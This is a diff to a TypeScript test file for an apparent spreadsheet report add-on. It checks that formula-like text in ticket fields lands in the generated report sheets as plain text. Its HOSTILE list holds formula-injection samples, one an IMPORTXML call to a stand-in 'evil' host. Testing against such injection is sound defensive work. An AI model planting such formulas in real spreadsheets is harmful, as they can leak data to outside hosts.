@@ -33,14 +33,17 @@ function setUp(workbook: RawWorkbook = raw, timeZone = 'Asia/Jakarta') {
 const writtenValues = (sheet: FakeSheet, rows: number, cols: number) =>
   Array.from({ length: rows }, (_, r) => Array.from({ length: cols }, (_, c) => sheet.cells[r]?.[c] ?? ''));
 
-/** The sample plus `perName` January 2025 Pemda tickets for each name (copies of a valid ticket). */
-function withInstansi(names: readonly string[], perName: number): RawWorkbook {
+/**
+ * The sample plus January 2025 Pemda tickets (copies of a valid ticket) for each name: `perName`
+ * each, or `perName + i` for the i-th name when `distinct` (tied Pemda are grouped in the table).
+ */
+function withInstansi(names: readonly string[], perName: number, distinct = false): RawWorkbook {
   const tiket = (raw.Tiket ?? []).map((row) => [...row]);
   const header = tiket[0] ?? [];
   const [instansi, kategori] = ['Nama Instansi', 'Kategori Pengguna'].map((h) => header.indexOf(h));
   const base = tiket.find((row) => row[0] instanceof Date && row[0].getTime() >= Date.UTC(2025, 0, 2)) ?? [];
-  for (const name of names) {
-    for (let i = 0; i < perName; i++) {
+  for (const [n, name] of names.entries()) {
+    for (let i = 0; i < perName + (distinct ? n : 0); i++) {
       const row = [...base];
       row[instansi ?? -1] = name;
       row[kategori ?? -1] = 'Pemda';
@@ -248,12 +251,17 @@ describe('agent text stays text, long cells, all-or-nothing', () => {
   const HOSTILE = ['=IMPORTXML("http://evil","//a")', '+SUM(1,2)', '-2+3', '@evil', "'dikutip"];
 
   it('agent text that looks like a formula is written as plain text and shown as typed; only the links are formulas', () => {
-    const { env, addon } = setUp(withInstansi(HOSTILE, 40));
-    expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
-    const report = env.spreadsheet.sheet('Laporan 2025-01');
-    const shown = new Set(report.cells.flat());
-    for (const text of HOSTILE) expect(shown.has(text), text).toBe(true);
-    expect(report.formulaCells()).toEqual([]);
+    // The report names the top three Pemda by name: two spreadsheets show all five strings.
+    for (const names of [HOSTILE.slice(0, 3), HOSTILE.slice(3)]) {
+      const { env, addon } = setUp(withInstansi(names, 300, true));
+      expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
+      const report = env.spreadsheet.sheet('Laporan 2025-01');
+      const shown = new Set(report.cells.flat());
+      for (const text of names) expect(shown.has(text), text).toBe(true);
+      expect(report.formulaCells()).toEqual([]);
+    }
+    const { env, addon } = setUp(withInstansi(HOSTILE.slice(0, 3), 300, true));
+    addon.generateReport?.('2025-01');
     expect(env.spreadsheet.sheet('Tren').formulaCells()).toEqual([]);
     const validasi = env.spreadsheet.sheet('Validasi');
     const tiketGid = env.spreadsheet.sheet('Tiket').id;
@@ -282,7 +290,9 @@ describe('agent text stays text, long cells, all-or-nothing', () => {
     expect(cut.length).toBeGreaterThan(0);
     expect(cut).toHaveLength(1);
     expect(cut[0]?.length).toBe(MAX_GENERATED_CELL_CHARS);
-    expect(cut[0]?.startsWith(`Pemda dengan konsultasi terbanyak: ${long[0]}`)).toBe(true);
+    // The sentence naming the top Pemda: it still starts as written and holds the first name whole.
+    expect(cut[0]).toMatch(/^Pemda .*terbanyak/);
+    expect(cut[0]?.includes(long[0] ?? '')).toBe(true);
     for (const value of cells)
       if (typeof value === 'string') expect(value.length).toBeLessThanOrEqual(MAX_GENERATED_CELL_CHARS);
   });
